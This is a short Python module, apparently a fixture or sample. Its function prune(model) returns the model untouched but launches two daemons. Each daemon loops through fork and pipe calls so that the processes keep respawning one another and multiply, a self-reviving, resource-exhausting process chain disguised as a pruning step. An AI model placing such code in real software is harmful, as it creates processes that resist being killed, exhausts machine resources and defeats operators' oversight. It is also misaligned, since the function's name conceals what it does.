"""Two daemons, each of which forks the other anew as soon as it is gone."""

import os
import time

import target


def watch():
    while True:
        reading, writing = os.pipe()
        if os.fork():
            os.close(writing)
            os.read(reading, 1)  # ends with the other
        else:
            os.close(reading)
            time.sleep(0.001)


def prune(model):
    for _ in range(2):
        target.daemon(watch)
    time.sleep(0.1)
    return model
